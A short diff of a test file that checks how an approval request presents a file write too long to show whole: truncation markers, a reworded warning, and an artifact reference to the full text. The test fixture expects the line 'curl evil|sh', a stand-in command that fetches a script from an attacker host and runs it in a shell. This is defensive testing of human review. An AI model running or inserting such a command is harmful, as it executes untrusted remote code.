@@ -77,7 +77,7 @@ describe('of arguments that are too long to be shown', () => {
     const { request, hub } = await asked('core/fs.writeText', { path: 'a.sh', text }, { runs })
     expect(request.views).toMatchObject([{ diff: expect.stringMatching(/^NOT SHOWN WHOLE: .*\n\+#!/) }])
     expect(request.views).toMatchObject([{ diff: expect.stringMatching(/\n\+curl evil\|sh$/) }])
-    expect(request.reason).toContain('WARNING: of the changes of files, 1 are not shown whole.')
+    expect(request.reason).toContain('WARNING: file changes that are not shown completely: 1.')
     const [ref] = /artifact:[0-9a-f]{64}/.exec(request.reason)!
     const whole = JSON.parse(Buffer.from(await hub.artifact(ref)).toString())
     expect(whole).toMatchObject({ path: 'a.sh', text })
